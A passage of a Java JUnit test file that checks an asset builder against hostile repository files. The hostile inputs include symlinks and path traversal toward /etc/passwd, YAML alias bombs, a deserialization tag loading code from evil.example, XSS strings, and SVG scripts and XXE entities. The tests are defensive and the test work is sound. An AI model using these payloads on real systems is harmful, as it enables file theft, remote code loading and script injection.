package dev.repoworker.worker.assets;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import com.fasterxml.jackson.databind.JsonNode;
import dev.repoworker.embeddings.ComputeEmbeddings;
import dev.repoworker.embeddings.EmbeddingCache;
import dev.repoworker.embeddings.EmbeddingReport;
import dev.repoworker.protocol.Json;
import dev.repoworker.worker.artifacts.Manifest;
import dev.repoworker.worker.enrich.EnrichData;
import dev.repoworker.worker.task.InvalidTaskDataException;
import dev.repoworker.worker.task.ProgressListener;
import dev.repoworker.worker.task.TaskData;
import dev.repoworker.worker.task.TaskFailedException;
import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.RandomAccessFile;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.concurrent.TimeUnit;
import java.util.stream.Stream;
import java.util.stream.StreamSupport;
import javax.imageio.IIOImage;
import javax.imageio.ImageIO;
import javax.imageio.ImageWriter;
import javax.imageio.stream.ImageOutputStream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;

/**
 * A repository is untrusted input: each hostile file below must end as an issue in {@code issues.json} (or a clean
 * task failure), never as an OutOfMemoryError, an escaping StackOverflowError or a hang, and nothing outside the
 * repository may be read. Outside the vault lie a secret note and a secret image; no output may hold either.
 */
@Timeout(value = 180, unit = TimeUnit.SECONDS, threadMode = Timeout.ThreadMode.SEPARATE_THREAD)
class HostileFilesTest {

    private static final String SECRET_TEXT = "OUTSIDE-SECRET-7f3a";
    private static final String PASSWD_LINE = "root:x:0:0";

    @TempDir
    Path temp;

    private Path vault;
    private Path outside;
    private String secretImageHash;

    @BeforeEach
    void vaultBesideSecrets() throws IOException {
        vault = Files.createDirectories(temp.resolve("vault"));
        outside = Files.createDirectories(temp.resolve("outside"));
        Files.writeString(outside.resolve("secret.md"), "# Secret\n\n" + SECRET_TEXT + "\n");
        byte[] png = TestVault.image(40, 30, "png");
        Files.write(outside.resolve("secret.png"), png);
        Files.writeString(
                outside.resolve("secret.svg"),
                "<svg xmlns=\"http://www.w3.org/2000/svg\"><text>" + SECRET_TEXT + "</text></svg>");
        Files.writeString(outside.resolve("secret.mp4"), SECRET_TEXT);
        secretImageHash = Manifest.sha256(png);
        Files.writeString(vault.resolve("fine.md"), "# Fine\n\nA fine note.\n");
    }

    /** What one build gave. */
    private record Built(BuildReport report, Path out, JsonNode issues) {

        List<String> issues(String kind) {
            return StreamSupport.stream(issues.spliterator(), false)
                    .filter(i -> i.path("kind").asText().equals(kind))
                    .map(i -> i.path("file").asText() + ":" + i.path("line").asInt() + " "
                            + i.path("message").asText())
                    .toList();
        }

        String html(String slug) throws IOException {
            return Json.mapper()
                    .readTree(out.resolve("posts/" + slug + ".json").toFile())
                    .path("html")
                    .asText();
        }

        /** Every output file's bytes, as Latin-1 text (any byte sequence is searchable). */
        String everything() throws IOException {
            StringBuilder all = new StringBuilder();
            try (Stream<Path> files = Files.walk(out)) {
                for (Path f : files.filter(Files::isRegularFile).toList()) {
                    all.append(f.getFileName())
                            .append('\n')
                            .append(new String(Files.readAllBytes(f), StandardCharsets.ISO_8859_1))
                            .append('\n');
                }
            }
            return all.toString();
        }
    }

    private Built build() throws Exception {
        return build(BuildOptions.defaults());
    }

    private Built build(BuildOptions options) throws Exception {
        Path out = temp.resolve("out");
        BuildReport report = new AssetBuilder().build(vault, options, out, ProgressListener.NONE);
        return new Built(
                report, out, Json.mapper().readTree(out.resolve("issues.json").toFile()));
    }

    private void assertNothingFromOutside(Built built) throws IOException {
        String everything = built.everything();
        assertThat(everything)
                .doesNotContain(SECRET_TEXT)
                .doesNotContain(PASSWD_LINE)
                .doesNotContain(secretImageHash);
        assertThat(built.html("fine")).contains("A fine note.");
    }

    private void write(String path, String text) throws IOException {
        Path file = vault.resolve(path);
        Files.createDirectories(file.getParent());
        Files.writeString(file, text);
    }

    private static void sparse(Path file, long bytes) throws IOException {
        Files.createDirectories(file.getParent());
        try (RandomAccessFile f = new RandomAccessFile(file.toFile(), "rw")) {
            f.setLength(bytes);
        }
    }

    private static void run(String... command) throws Exception {
        Process p = new ProcessBuilder(command).redirectErrorStream(true).start();
        assumeTrue(p.waitFor(30, TimeUnit.SECONDS) && p.exitValue() == 0, String.join(" ", command) + " is available");
    }

    // Symbolic links and special files.

    @Test
    void notes_linked_out_of_the_repository_are_reported_and_never_read() throws Exception {
        assumeTrue(Files.isRegularFile(Path.of("/etc/passwd")));
        Files.createSymbolicLink(vault.resolve("passwd.md"), Path.of("/etc/passwd"));
        Files.createSymbolicLink(vault.resolve("relative.md"), Path.of("../outside/secret.md"));
        Files.createSymbolicLink(vault.resolve("hop.md"), Path.of("chain.md"));
        Files.createSymbolicLink(vault.resolve("chain.md"), outside.resolve("secret.md"));
        Files.createSymbolicLink(vault.resolve("dangling.md"), vault.resolve("nowhere.md"));
        Files.createSymbolicLink(vault.resolve("zero.md"), Path.of("/dev/zero"));
        Files.createSymbolicLink(vault.resolve("inside.md"), vault.resolve("fine.md"));

        Built built = build();

        assertThat(built.issues(Issue.UNSAFE_SYMLINK))
                .extracting(i -> i.substring(0, i.indexOf(':')))
                .containsExactlyInAnyOrder("passwd.md", "relative.md", "hop.md", "chain.md", "dangling.md", "zero.md");
        assertThat(built.html("inside")).contains("A fine note.");
        assertNothingFromOutside(built);
    }

    @Test
    void a_named_pipe_posing_as_a_note_is_skipped_instead_of_blocking_the_build() throws Exception {
        run("mkfifo", vault.resolve("pipe.md").toString());
        Files.createSymbolicLink(vault.resolve("to-pipe.md"), vault.resolve("pipe.md"));

        Built built = build();

        assertThat(built.report().posts()).isEqualTo(1);
        assertNothingFromOutside(built);
    }

    @Test
    void a_symlinked_folder_is_not_walked_and_one_leaving_the_repository_is_reported() throws Exception {
        write("notes/inner.md", "# Inner\n");
        Files.createSymbolicLink(vault.resolve("escape"), outside);
        Files.createSymbolicLink(vault.resolve("etc"), Path.of("/etc"));
        Files.createSymbolicLink(vault.resolve("again"), vault.resolve("notes"));

        Built built = build();

        assertThat(built.issues(Issue.UNSAFE_SYMLINK))
                .containsExactlyInAnyOrder(
                        "escape:0 symbolic link to a folder outside the repository; not followed",
                        "etc:0 symbolic link to a folder outside the repository; not followed");
        assertThat(built.report().posts())
                .as("the inner note once, not again through the link")
                .isEqualTo(2);
        assertNothingFromOutside(built);
    }

    @Test
    void media_linked_out_of_the_repository_is_not_published() throws Exception {
        Files.createDirectories(vault.resolve("images"));
        Files.createSymbolicLink(vault.resolve("images/leak.png"), outside.resolve("secret.png"));
        Files.createSymbolicLink(vault.resolve("images/leak.svg"), outside.resolve("secret.svg"));
        Files.createSymbolicLink(vault.resolve("images/passwd.svg"), Path.of("/etc/passwd"));
        Files.createSymbolicLink(vault.resolve("clip.mp4"), outside.resolve("secret.mp4"));
        write("gallery.md", "![[leak.png]] ![[leak.svg]] ![[passwd.svg]] ![[clip.mp4]] ![](images/leak.png)\n");

        Built built = build();

        assertThat(built.issues(Issue.UNSAFE_SYMLINK))
                .extracting(i -> i.substring(0, i.indexOf(':')))
                .containsExactlyInAnyOrder("images/leak.png", "images/leak.svg", "images/passwd.svg", "clip.mp4");
        assertThat(built.html("gallery"))
                .contains("<span class=\"missing-media\">leak.png</span>")
                .doesNotContain("<img")
                .doesNotContain("<video");
        assertThat(built.out().resolve("media")).isEmptyDirectory();
        assertNothingFromOutside(built);
    }

    @Test
    void a_repoignore_linked_out_of_the_repository_is_not_read() throws Exception {
        Files.writeString(outside.resolve("ignore-everything"), "*.md\n");
        Files.createSymbolicLink(vault.resolve(".repoignore"), outside.resolve("ignore-everything"));

        Built built = build();

        assertThat(built.report().posts()).isEqualTo(1);
        assertNothingFromOutside(built);
    }

    @Test
    void a_repository_folder_reached_through_a_symbolic_link_is_refused() throws Exception {
        Files.createDirectories(outside.resolve("sub"));
        Files.writeString(outside.resolve("sub/stolen.md"), SECRET_TEXT);
        Files.createSymbolicLink(vault.resolve("escape"), outside);

        for (String folder : List.of("escape", "escape/sub", "./escape/sub")) {
            BuildOptions options = new BuildOptions(folder, List.of(), "/n", "/m", "", true, null, null, 1);
            assertThatThrownBy(() -> new AssetBuilder()
                            .build(vault, options, temp.resolve("out-" + folder.length()), ProgressListener.NONE))
                    .as(folder)
                    .isInstanceOf(TaskFailedException.class)
                    .hasMessageContaining("repositoryFolder")
                    .hasMessageContaining("symbolic link");
        }
    }

    @Test
    void a_repository_folder_that_climbs_out_is_refused_naming_the_field() {
        for (String folder : List.of(
                "..",
                "../outside",
                "a/../../b",
                "a/..",
                "..\\outside",
                "/etc",
                "C:/Windows",
                "~/x",
                "a\u0000b",
                "a\nb",
                "x".repeat(1025))) {
            assertThatThrownBy(() -> BuildOptions.fromData(new TaskData(Map.of("repositoryFolder", folder))))
                    .as(folder)
                    .isInstanceOf(InvalidTaskDataException.class)
                    .hasMessageContaining("data.repositoryFolder");
        }
        BuildOptions bypass = new BuildOptions("../outside", List.of(), "/n", "/m", "", true, null, null, 1);
        assertThatThrownBy(() -> new AssetBuilder().build(vault, bypass, temp.resolve("out"), ProgressListener.NONE))
                .isInstanceOf(TaskFailedException.class)
                .hasMessage("repositoryFolder leaves the repository");
    }

    // Paths in links and embeds.

    @Test
    void links_and_embeds_that_climb_out_of_the_repository_are_refused() throws Exception {
        Files.createDirectories(vault.resolve("a/b"));
        Files.write(vault.resolve("a/b/photo.png"), TestVault.image(20, 10, "png"));
        write("a/b/climb.md", """
                [[../../../outside/secret]]
                ![[../../../outside/secret]]
                ![[../../../etc/passwd]]
                ![[../../../outside/secret.md]]
                ![[../../../outside/secret.png]]
                ![](../../../outside/secret.png)
                ![](..%2F..%2F..%2Foutside%2Fsecret.png)
                [link](../../../outside/secret.md)
                [encoded](..%2F..%2F..%2Foutside%2Fsecret.md)
                <img src="../../../outside/./secret.png">
                [[../../../../../../../etc/passwd|x]]
                Still fine: ![[photo.png]] and [[../../fine]].
                """);

        Built built = build();

        assertThat(built.issues(Issue.UNSAFE_PATH)).hasSize(11).allMatch(i -> i.startsWith("a/b/climb.md:"));
        String html = built.html("climb");
        assertThat(html).contains("<img class=\"media\"").contains("href=\"/_repo/notes/fine\"");
        assertThat(org.jsoup.Jsoup.parseBodyFragment(html).select("[href], [src]"))
                .allSatisfy(e -> assertThat(e.attr("href") + e.attr("src")).doesNotContain(".."));
        assertNothingFromOutside(built);
    }

    @Test
    void slugs_that_are_paths_never_become_file_names() throws Exception {
        write("slugged.md", "---\nslug: ../../../outside/overwritten\n---\nBody.\n");
        write("other.md", "---\nslug: /etc/passwd\n---\nBody.\n");

        Built built = build();

        assertThat(built.out().resolve("posts/outside-overwritten.json")).isRegularFile();
        assertThat(built.out().resolve("posts/etc-passwd.json")).isRegularFile();
        assertThat(outside.resolve("overwritten.json")).doesNotExist();
        try (Stream<Path> files = Files.list(outside)) {
            assertThat(files.map(p -> p.getFileName().toString()))
                    .containsExactlyInAnyOrder("secret.md", "secret.png", "secret.svg", "secret.mp4");
        }
    }

    @Test
    void enrich_data_never_writes_a_post_whose_slug_is_a_path() throws Exception {
        Path build = Files.createDirectories(temp.resolve("build"));
        Files.writeString(build.resolve("posts.json"), """
                [{"slug":"good","title":"Good","html":"<p>x</p>","plain":"x","tags":[]},
                 {"slug":"../../escaped","title":"Bad","html":"<p>x</p>","plain":"x","tags":[]},
                 {"slug":"/tmp/abs","title":"Bad","html":"<p>x</p>","plain":"x","tags":[]}]
                """);
        Path out = temp.resolve("enriched/job");

        Map<String, Object> summary = new EnrichData()
                .enrich(
                        new EnrichData.Request(build, Optional.empty(), out, Optional.empty(), 50),
                        ProgressListener.NONE);

        assertThat(out.resolve("posts/good.json")).isRegularFile();
        assertThat(temp.resolve("escaped.json")).doesNotExist();
        assertThat(temp.resolve("enriched/escaped.json")).doesNotExist();
        assertThat(summary.get("posts")).isEqualTo(1);
        assertThat(summary.get("notes").toString()).contains("../../escaped").contains("/tmp/abs");
    }

    @Test
    void a_hostile_build_goes_through_compute_embeddings_and_enrich_data() throws Exception {
        write("divs.md", "<div>".repeat(100_000) + "deep text" + "</div>".repeat(100_000) + "\n");
        write("quotes.md", ">".repeat(100_000) + " deep\n");
        write("long.md", repeat("lorem ipsum dolor sit amet [[fine]] ", 2 << 20) + "\n");
        write("laughs.md", TestVault.BOMB);
        write("xss.md", "<img src=x onerror=alert(1)> [x](javascript:alert(1)) <svg onload=alert(1)>\n");
        Files.write(vault.resolve("bytes.md"), new byte[] {'a', ' ', (byte) 0xFF, ' ', 'b', '\n'});
        Built built = build();

        Map<String, Object> enriched = new EnrichData()
                .enrich(
                        new EnrichData.Request(
                                built.out(), Optional.empty(), temp.resolve("enriched"), Optional.empty(), 50),
                        ProgressListener.NONE);
        EmbeddingReport embedded = new ComputeEmbeddings(new HashEmbedder(), new EmbeddingCache(temp.resolve("cache")))
                .computeEmbeddings(
                        built.out(), temp.resolve("embedded"), dev.repoworker.embeddings.ProgressListener.NONE);

        assertThat(enriched.get("posts")).isEqualTo(7);
        assertThat(embedded.posts()).isEqualTo(7);
        assertThat(embedded.chunks()).isGreaterThan(100);
        assertThat(temp.resolve("embedded/related.json")).isRegularFile();
    }

    // Sizes.

    @Test
    void five_hundred_megabyte_files_are_skipped_without_being_read() throws Exception {
        long size = 500L << 20;
        for (String name : List.of("big.md", "images/big.png", "images/big.gif", "images/big.svg", "clip/big.mp4")) {
            sparse(vault.resolve(name), size);
        }
        write("uses.md", "![[big.png]] ![[big.svg]] ![[big.mp4]] [[big]]\n");

        Built built = build();

        assertThat(built.issues(Issue.FILE_TOO_LARGE))
                .extracting(i -> i.substring(0, i.indexOf(':')))
                .containsExactlyInAnyOrder(
                        "big.md", "images/big.png", "images/big.gif", "images/big.svg", "clip/big.mp4");
        assertThat(built.html("uses"))
                .contains("<span class=\"refused-media\">big.png</span>")
                .contains("<span class=\"broken-link\">big</span>");
        assertThat(built.out().resolve("media")).isEmptyDirectory();
    }

    @Test
    void a_png_declaring_50000_by_50000_pixels_is_refused_without_decoding() throws Exception {
        Files.createDirectories(vault.resolve("images"));
        Files.write(vault.resolve("images/bomb.png"), TestVault.pngHeader(50_000, 50_000));
        write("bomb.md", "![[bomb.png]]\n");

        Built built = build();

        assertThat(built.issues(Issue.IMAGE_TOO_LARGE))
                .singleElement()
                .asString()
                .startsWith("images/bomb.png:0 image declares 50000x50000 pixels, over the limit");
        assertThat(built.html("bomb")).contains("<span class=\"refused-media\">bomb.png</span>");
        assertThat(built.out().resolve("media")).isEmptyDirectory();
    }

    @Test
    void a_gif_of_10000_frames_is_published_from_its_first_frame() throws Exception {
        Files.createDirectories(vault.resolve("images"));
        Files.write(vault.resolve("images/frames.gif"), gif(10_000, 8));
        write("anim.md", "![[frames.gif]]\n");

        Built built = build();

        assertThat(built.issues).isEmpty();
        assertThat(built.report().mediaProcessed()).isEqualTo(1);
        assertThat(built.html("anim")).contains("<img class=\"media\"").contains("width=\"8\" height=\"8\"");
        try (Stream<Path> media = Files.list(built.out().resolve("media"))) {
            assertThat(media.map(p -> p.getFileName().toString())).hasSize(2).allMatch(n -> n.contains("-xs."));
        }
    }

    /** An animated GIF of {@code frames} frames of {@code size}×{@code size} pixels, written by ImageIO. */
    static byte[] gif(int frames, int size) throws IOException {
        ImageWriter writer = ImageIO.getImageWritersByFormatName("gif").next();
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ImageOutputStream out = ImageIO.createImageOutputStream(bytes)) {
            writer.setOutput(out);
            writer.prepareWriteSequence(null);
            BufferedImage frame = new BufferedImage(size, size, BufferedImage.TYPE_BYTE_INDEXED);
            for (int i = 0; i < frames; i++) {
                frame.setRGB(i % size, (i / size) % size, 0xFF0000 + i);
                writer.writeToSequence(new IIOImage(frame, null, null), null);
            }
            writer.endWriteSequence();
        } finally {
            writer.dispose();
        }
        return bytes.toByteArray();
    }

    // Deep nesting and long lines.

    @Test
    void markdown_nested_100000_levels_deep_is_reported_or_rendered_never_a_crash() throws Exception {
        int depth = 100_000;
        write("quotes.md", ">".repeat(depth) + " deep\n");
        write("spaced-quotes.md", "> ".repeat(depth) + "deep\n");
        write("bullets.md", "- ".repeat(depth) + "deep\n");
        write("numbers.md", "1. ".repeat(depth) + "deep\n");
        StringBuilder indented = new StringBuilder();
        for (int i = 0; i < 2_000; i++) {
            indented.append("  ".repeat(i)).append("- level ").append(i).append('\n');
        }
        write("indented.md", indented.toString());
        StringBuilder stairs = new StringBuilder();
        for (int i = 1; i <= 3_000; i++) {
            stairs.append(">".repeat(i)).append(" step\n");
        }
        write("stairs.md", stairs.toString());
        write("brackets.md", "[".repeat(depth) + "x" + "]".repeat(depth) + "\n");
        write("links.md", "[".repeat(depth) + "x" + "](y)".repeat(depth) + "\n");
        write("stars.md", "*".repeat(depth) + "x" + "*".repeat(depth) + "\n");
        write("alternating.md", "*a _".repeat(depth) + "x" + "_ a*".repeat(depth) + "\n");
        write("underscores.md", "_".repeat(depth) + "x" + "_".repeat(depth) + "\n");
        write("divs.md", "<div>".repeat(depth) + "x" + "</div>".repeat(depth) + "\n");
        write("spans.md", "text " + "<span>".repeat(depth) + "x" + "</span>".repeat(depth) + "\n");
        write("wikis.md", "[[".repeat(depth) + "x" + "]]".repeat(depth) + "\n");

        Built built = build();

        assertThat(built.report().posts()).isEqualTo(15);
        assertThat(built.issues(Issue.TOO_DEEP))
                .extracting(i -> i.substring(0, i.indexOf(':')))
                .contains("quotes.md", "spaced-quotes.md", "bullets.md", "numbers.md", "indented.md", "stairs.md");
        assertThat(built.issues(Issue.TOO_DEEP))
                .contains(
                        "quotes.md:1 note is nested too deeply to render (over 100 levels); shown as plain text",
                        "indented.md:101 note is nested too deeply to render (over 100 levels); shown as plain text");
        assertThat(built.html("quotes")).startsWith("<pre class=\"render-failed\">&gt;&gt;&gt;");
        assertThat(built.html("divs")).contains("<div><div>").contains("x");
        assertThat(built.issues(Issue.RENDER_FAILED)).isEmpty();
        assertThat(built.html("fine")).contains("A fine note.");
    }

    @Test
    void ten_megabytes_of_prose_on_one_line_render_in_full() throws Exception {
        int tenMegabytes = 10 << 20;
        write("prose.md", repeat("lorem ipsum dolor sit amet, consectetur adipiscing elit ", tenMegabytes) + "\n");
        write("some-links.md", repeat("[see](fine.md) and [[fine]] ", 1 << 20) + "\n");
        write("unclosed.md", repeat("[a](", 1 << 20) + "\n");
        write("emphasis-and-links.md", repeat("*em* [l](b.md) ", 1 << 20) + "\n");

        Built built = build();

        assertThat(built.html("prose")).startsWith("<p>lorem ipsum").hasSizeGreaterThan(tenMegabytes - 100);
        assertThat(built.html("some-links")).contains("<a href=\"/_repo/notes/fine\" class=\"internal-link\"");
        assertThat(built.html("unclosed")).startsWith("<p>[a](").hasSizeGreaterThan(1 << 20);
        assertThat(built.issues)
                .singleElement()
                .satisfies(i -> assertThat(i.path("file").asText() + " "
                                + i.path("message").asText())
                        .startsWith("emphasis-and-links.md note is too complex to render (a block needs ")
                        .endsWith(" steps to match its emphasis around its links, over "
                                + BoundedInlineParser.MAX_DELIMITER_STEPS + "); shown as plain text"));
    }

    @Test
    void ten_megabytes_of_hostile_syntax_on_one_line_render_or_are_reported_within_a_bound() throws Exception {
        int tenMegabytes = 10 << 20;
        write("links.md", repeat("[see](fine.md) and [[fine]] ", tenMegabytes) + "\n");
        write("unclosed.md", repeat("[a](", tenMegabytes) + "\n");
        write(
                "mixed.md",
                repeat(
                                "w [[fine]] ==hi== #tag $x$ *em* **b** [l](b.md) <b>x</b> `c` &amp; "
                                        + "https://e.example/x [^1] ~~s~~ ",
                                tenMegabytes)
                        + "\n");
        BuildOptions options = BuildOptions.defaults()
                .withLimits(BuildOptions.Limits.defaults().withMaxRenderCpuMillis(5_000));

        Built built = build(options);

        assertThat(built.report().posts()).isEqualTo(4);
        List<String> reported = Stream.concat(
                        built.issues(Issue.HTML_TOO_LARGE).stream(), built.issues(Issue.TOO_COMPLEX).stream())
                .map(i -> i.substring(0, i.indexOf(':')))
                .toList();
        assertThat(reported)
                .as("links render to more HTML than a post may hold; emphasis around links is refused")
                .contains("links.md", "mixed.md");
        // 10 MB of unclosed brackets parse in linear time, close to the 5 s CPU budget on a slow machine: either
        // outcome.
        assertThat(built.html("unclosed"))
                .matches(
                        html -> html.startsWith("<p>[a](") || html.startsWith("<pre class=\"render-failed\">[a]("),
                        "rendered, or shown as plain text");
        for (String slug : List.of("links", "unclosed", "mixed")) {
            assertThat(built.html(slug).length())
                    .as(slug)
                    .isBetween(1 << 20, options.limits().maxHtmlChars());
        }
    }

    @Test
    void a_post_whose_html_would_pass_the_limit_is_plain_text_cut_at_the_limit() throws Exception {
        write("angles.md", "<".repeat(1 << 20) + "\n");
        write("images.md", "![[photo.png]] ".repeat(20_000) + "\n");
        Files.write(vault.resolve("photo.png"), TestVault.image(20, 10, "png"));
        BuildOptions options = BuildOptions.defaults()
                .withLimits(BuildOptions.Limits.defaults().withMaxHtmlChars(1_000_000));

        Built built = build(options);

        assertThat(built.issues(Issue.HTML_TOO_LARGE))
                .extracting(i -> i.substring(0, i.indexOf(':')))
                .containsExactlyInAnyOrder("angles.md", "images.md");
        assertThat(built.html("angles"))
                .startsWith("<pre class=\"render-failed\">&lt;&lt;")
                .endsWith("\u2026</pre>")
                .hasSizeLessThanOrEqualTo(1_000_000);
        assertThat(built.html("images"))
                .startsWith("<pre class=\"render-failed\">![[photo.png]]")
                .hasSizeLessThanOrEqualTo(1_000_000);
    }

    private static String repeat(String chunk, int size) {
        return chunk.repeat(size / chunk.length());
    }

    // Encodings and frontmatter.

    @Test
    void invalid_utf8_is_replaced_and_reported_with_its_line() throws Exception {
        ByteArrayOutputStream note = new ByteArrayOutputStream();
        note.writeBytes("---\ntitle: T\u00e9st\n---\n# Heading\n\nfine line\n".getBytes(StandardCharsets.UTF_8));
        note.writeBytes(new byte[] {
            'b',
            'a',
            'd',
            ' ',
            (byte) 0xFF,
            ' ',
            (byte) 0xC3,
            '(',
            ' ',
            (byte) 0xC0,
            (byte) 0xAF,
            ' ',
            (byte) 0xED,
            (byte) 0xA0,
            (byte) 0x80,
            '\n',
            'e',
            'n',
            'd',
            ' ',
            (byte) 0xF0,
            (byte) 0x9F
        });
        Files.write(vault.resolve("bytes.md"), note.toByteArray());
        Files.write(vault.resolve("front.md"), new byte[] {
            '-',
            '-',
            '-',
            '\n',
            't',
            'i',
            't',
            'l',
            'e',
            ':',
            ' ',
            (byte) 0xFE,
            '\n',
            '-',
            '-',
            '-',
            '\n',
            'b',
            'o',
            'd',
            'y',
            '\n'
        });
        Files.write(
                vault.resolve(".repoignore"),
                new byte[] {'#', ' ', (byte) 0xFF, '\n', 's', 'k', 'i', 'p', '.', 'm', 'd', '\n'});
        write("skip.md", "ignored\n");
        run("sh", "-c", "printf 'name body' > \"$1\"/\"$(printf 'bad\\377name.md')\"", "sh", vault.toString());

        Built built = build();

        assertThat(built.issues(Issue.INVALID_UTF8))
                .containsExactlyInAnyOrder(
                        ".repoignore:1 is not valid UTF-8 (first bad byte at offset 2); invalid bytes shown as \uFFFD",
                        "bytes.md:7 is not valid UTF-8 (first bad byte at offset 46); invalid bytes shown as \uFFFD",
                        "front.md:2 is not valid UTF-8 (first bad byte at offset 11); invalid bytes shown as \uFFFD");
        assertThat(built.html("bytes"))
                .contains("fine line")
                .contains("bad \uFFFD \uFFFD(")
                .contains("end \uFFFD");
        assertThat(Json.mapper()
                        .readTree(built.out().resolve("posts/bytes.json").toFile())
                        .path("title")
                        .asText())
                .isEqualTo("T\u00e9st");
        assertThat(built.html("front")).contains("body");
        assertThat(built.out().resolve("posts/skip.json")).doesNotExist();
        assertThat(built.html("bad-name")).contains("name body");
    }

    @Test
    void yaml_bombs_and_hostile_frontmatter_are_issues_and_the_notes_still_build() throws Exception {
        write("laughs.md", TestVault.BOMB);
        write("merge.md", """
                ---
                a: &a {x: 1, y: 2, z: 3}
                b: &b {<<: [*a, *a, *a, *a, *a, *a, *a, *a, *a, *a]}
                c: &c {<<: [*b, *b, *b, *b, *b, *b, *b, *b, *b, *b]}
                d: &d {<<: [*c, *c, *c, *c, *c, *c, *c, *c, *c, *c]}
                e: &e [*d, *d, *d, *d, *d, *d, *d, *d, *d, *d, *d, *d, *d, *d, *d, *d, *d, *d, *d, *d, *d, *d]
                f: [*e, *e, *e, *e, *e, *e, *e, *e, *e, *e, *e, *e, *e, *e, *e, *e, *e, *e, *e, *e, *e, *e, *e]
                ---
                merge body
                """);
        write("recursive.md", "---\na: &a [*a, *a]\nb: &b {self: *b}\n---\nrecursive body\n");
        StringBuilder doubling = new StringBuilder("---\na0: &a0 [lol, lol]\n");
        for (int i = 1; i <= 25; i++) {
            doubling.append("a")
                    .append(i)
                    .append(": &a")
                    .append(i)
                    .append(" [*a")
                    .append(i - 1)
                    .append(", *a")
                    .append(i - 1)
                    .append("]\n");
        }
        write("doubling.md", doubling + "---\ndoubling body\n");
        write("nested.md", "---\nx: " + "[".repeat(100_000) + "]".repeat(100_000) + "\n---\nnested body\n");
        write("flow-map.md", "---\nx: " + "{a: ".repeat(50_000) + "1" + "}".repeat(50_000) + "\n---\nflow-map body\n");
        write("huge.md", "---\nx: \"" + "y".repeat(300_000) + "\"\n---\nhuge body\n");
        write(
                "tags.md",
                "---\nx: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL "
                        + "[\"http://evil.example/\"]]]]\n---\ntags body\n");
        write("unclosed.md", "---\n" + "key: value\n".repeat(100_000) + "unclosed body\n");

        Built built = build();

        List<String> hostile =
                List.of("merge", "recursive", "doubling", "nested", "flow-map", "huge", "tags", "unclosed");
        assertThat(built.issues(Issue.FRONTMATTER))
                .extracting(i -> i.substring(0, i.indexOf(':')))
                .containsExactlyInAnyOrderElementsOf(Stream.concat(Stream.of("laughs"), hostile.stream())
                        .map(n -> n + ".md")
                        .toList());
        assertThat(built.issues(Issue.FRONTMATTER))
                .contains("doubling.md:1 frontmatter expands to more than " + Frontmatter.MAX_VALUES
                        + " values (through aliases); ignored");
        for (String slug : hostile) {
            assertThat(built.html(slug)).as(slug).contains(slug + " body");
        }
        assertThat(Files.size(built.out().resolve("posts.json"))).isLessThan(10L << 20);
    }

    // SVG.

    @Test
    void svgs_with_active_content_are_refused_and_a_plain_one_is_published() throws Exception {
        String ns = "xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\"";
        List<String[]> hostile = new ArrayList<>(List.of(
                new String[] {"script", "<svg " + ns + "><script>alert(1)</script></svg>"},
                new String[] {"script-cdata", "<svg " + ns + "><script><![CDATA[alert(1)]]></script></svg>"},
                new String[] {
                    "namespaced-script",
                    "<s:svg xmlns:s=\"http://www.w3.org/2000/svg\"><s:script>alert(1)</s:script></s:svg>"
                },
                new String[] {"onload", "<svg " + ns + " onload=\"alert(1)\"/>"},
                new String[] {"onclick", "<svg " + ns + "><rect width=\"5\" height=\"5\" OnClick=\"alert(1)\"/></svg>"},
                new String[] {
                    "foreign",
                    "<svg " + ns + "><foreignObject><body xmlns=\"http://www.w3.org/1999/xhtml\">"
                            + "<img src=\"x\" onerror=\"alert(1)\"/></body></foreignObject></svg>"
                },
                new String[] {"href", "<svg " + ns + "><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>"},
                new String[] {
                    "href-entity", "<svg " + ns + "><a href=\"jav&#x09;ascript&#x3A;alert(1)\"><text>x</text></a></svg>"
                },
                new String[] {
                    "animate",
                    "<svg " + ns + "><a><set attributeName=\"href\" to=\"https://e.example\"/>"
                            + "<text>x</text></a></svg>"
                },
                new String[] {
                    "animate-values",
                    "<svg " + ns + "><animate attributeName=\"x\" values=\"javascript:alert(1)\"/></svg>"
                },
                new String[] {
                    "data-html",
                    "<svg " + ns + "><image href=\"data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;\"/></svg>"
                },
                new String[] {"use-data", "<svg " + ns + "><use href=\"data:image/svg+xml;base64,PHN2Zz4=#x\"/></svg>"},
                new String[] {
                    "style-import", "<svg " + ns + "><style>@import url(https://e.example/x.css);</style></svg>"
                },
                new String[] {
                    "style-attr", "<svg " + ns + "><rect style=\"background:url(javascript:alert(1))\"/></svg>"
                },
                new String[] {"iframe", "<svg " + ns + "><iframe src=\"https://e.example\"/></svg>"},
                new String[] {
                    "xxe",
                    "<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>" + "<svg " + ns
                            + "><text>&xxe;</text></svg>"
                },
                new String[] {
                    "xxe-outside",
                    "<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY s SYSTEM \"file://" + outside.resolve("secret.md")
                            + "\">]><svg " + ns + "><text>&s;</text></svg>"
                },
                new String[] {
                    "laughs",
                    "<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY a \"lol\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\">"
                            + "<!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;\">]>"
                            + "<svg " + ns + "><text>&d;</text></svg>"
                },
                new String[] {"broken", "<svg " + ns + "><text>unclosed"}));
        Files.createDirectories(vault.resolve("svg"));
        for (String[] svg : hostile) {
            Files.writeString(vault.resolve("svg/" + svg[0] + ".svg"), svg[1]);
        }
        String plain = "<?xml version=\"1.0\"?>\n<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" "
